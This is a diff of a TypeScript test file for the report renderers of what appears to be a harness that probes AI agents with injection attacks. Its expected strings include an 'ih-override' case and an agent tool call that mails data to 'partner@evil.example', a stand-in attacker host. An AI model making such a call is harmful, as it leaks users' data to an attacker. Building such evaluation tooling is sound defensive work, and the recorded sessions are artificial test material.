@@ -12,14 +12,13 @@ import { reportThreat, signalSpan } from '../../../test/support/threat-documents
 import { withForeignThreatText } from '../../../test/support/threat-foreign-text.ts';
 import type { ThreatReport } from '../../documents/threat-report.ts';
 import { renderThreatJunit } from './threat-junit.ts';
-import { renderThreatMarkdown } from './threat-markdown.ts';
 import { renderThreatSarif } from './threat-sarif.ts';
-import { renderThreatText } from './threat-text.ts';
+import { renderThreatMarkdown, renderThreatText } from './threat-view.ts';
 
 const live = liveThreatReport();
 
 const textOf = (report: ThreatReport, verbosity: 'quiet' | 'normal' | 'verbose' | 'explain' = 'normal') =>
-  renderThreatText(report, { color: false, verbosity });
+  renderThreatText(report, { color: false, width: null, verbosity });
 const resultsOf = (report: ThreatReport) =>
   JSON.parse(renderThreatSarif(report, { docsUrl: 'https://docs.example' })).runs[0];
 
@@ -44,14 +43,14 @@ describe('the terminal', () => {
 
   test('names the reasons of what brought no answer, and the calls of the worst cases', () => {
     const text = textOf(live);
-    expect(text).toContain('! Incomplete: 2 sessions brought no answer that could be scored.');
+    expect(text).toContain('! Incomplete: 2 sessions brought no response that could be scored.');
     expect(text).toContain('error ih-override: It ended at the limit of 12 answers (turn-limit).');
     expect(text).toContain('Tool call 2: send_mail {"to":"partner@evil.example"');
   });
 
   test('shows the sessions of failed cases to those who ask for more, compactly', () => {
     for (const verbosity of ['quiet', 'normal'] as const)
-      expect(textOf(live, verbosity)).not.toContain('sessions of failed cases');
+      expect(textOf(live, verbosity)).not.toContain('Sessions of failed cases');
     const lines = textOf(liveThreatReport({}, [mailCase(), hangingCase()]), 'verbose').split('\n');
     const from = lines.indexOf('  gi-hanging');
     expect(lines.slice(from, from + 15).join('\n')).toMatchInlineSnapshot(`
@@ -71,7 +70,7 @@ describe('the terminal', () => {
           agent  The notes hold two points.
           user   Did you mail anything?"
     `);
-    expect(textOf(reportThreat(), 'verbose')).not.toContain('sessions of failed cases');
+    expect(textOf(reportThreat(), 'verbose')).not.toContain('Sessions of failed cases');
   });
 
   test('of a long session shows beginning, end and evidence, and of a long text what is around the evidence', () => {
@@ -89,10 +88,10 @@ describe('the terminal', () => {
       }),
     });
     const text = textOf(liveThreatReport({}, [one]), 'verbose');
-    const lines = text.slice(text.indexOf('sessions of failed cases')).split('\n');
+    const lines = text.slice(text.indexOf('Sessions of failed cases')).split('\n');
     expect(lines.filter((line) => line.includes('left out'))).toEqual([
-      '    … 236 entries left out',
-      '    … 245 entries left out',
+      '    …      236 entries left out',
+      '    …      245 entries left out',
     ]);
     expect(lines.find((line) => line.includes('calls'))).toMatch(/… *x+KEYy+… {2}\[\+key\]$/);
   });
@@ -101,9 +100,9 @@ describe('the terminal', () => {
 describe('Markdown', () => {
   test('has the live run as a table, and the reasons of what is missing', () => {
     const lines = renderThreatMarkdown(live);
-    expect(lines).toContain('| Sessions | 29 of 31 answered | each probe and each harmless twin once |');
+    expect(lines).toContain('| Sessions | **29 of 31 answered** | each probe and each harmless twin once |');
     expect(lines).toContain('| Failed | **1 session** |');
-    expect(lines).toContain('| No answer that could be scored (2) | Why |');
+    expect(lines).toContain('## No response that could be scored (2)');
     expect(renderThreatMarkdown(reportThreat())).not.toContain('Live run');
   });
 });
